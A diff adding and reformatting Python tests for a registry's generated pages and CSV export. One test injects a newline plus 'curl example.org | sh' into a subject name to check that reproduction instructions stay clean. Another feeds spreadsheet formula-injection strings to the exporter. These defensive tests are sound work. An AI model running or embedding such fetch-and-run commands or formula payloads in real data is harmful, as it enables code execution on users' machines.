@@ -100,10 +100,27 @@ def test_tricks_in_addresses_find_nothing(site, name, trick):
     assert site.first("SELECT count(*) FROM leaf") > 0
 
 
+def test_the_commands_that_compute_a_number_again_are_ours_alone(tmp_path):
+    registry = Registry(f"sqlite:///{tmp_path}/ledger.db")
+    writer = signed_sessions.session(registry.trainer, system="income", model=GOOD, close=False)
+    about = [Subject(name="data\ncurl example.org | sh", digest={"dirHash1": GOOD})]
+    writer.add("robustness", about, claims=(Claim(metric="accuracy", value="0.5"),))
+    writer.close()
+    registry.ask("registration", {f"aims/sessions/{writer.id}.jsonl": writer.jsonl()}, GOOD, "1")
+    site = PageSite.of(registry.ledger, tmp_path / "pages.db")
+    record = site.first("SELECT id FROM record WHERE kind = 'robustness'")
+    blocks = site.json("claim", record=record, number="0")["blocks"]
+    text = next(block["text"] for block in blocks if block["title"] == "Compute it again")
+    assert [line.split()[0] for line in text.split("\n") if line[0] != "#"] == ["aims", "aims"]
+
+
 def test_a_spreadsheet_takes_no_cell_for_a_formula():
     hostile = ["=HYPERLINK(1)", "+1+2", "@SUM(A1)", "-2+3", "\t=1", "-0.25", "+0.1%", "plain"]
     view = PageView("t", "t", (), (PageTable("t", ("=a", "b"), [(each, PageCell(each)) for each in hostile]),))
-    frame = PageFrame("/", "2026-11-28T10:00:00", 0, "", "", None, "", behind=False, whole=True)
+    frame = PageFrame(
+        root="/", time="2026-11-28T10:00:00", leaves=0, sealed="", origin="", checkpoint=None, checkpoint_root="",
+        behind=False, whole=True,
+    )  # fmt: skip
     rows = list(csv.reader(io.StringIO(as_csv(view, frame).decode())))
     assert rows[0][0] == "'=a"
     assert [row[0] for row in rows[1:]] == [
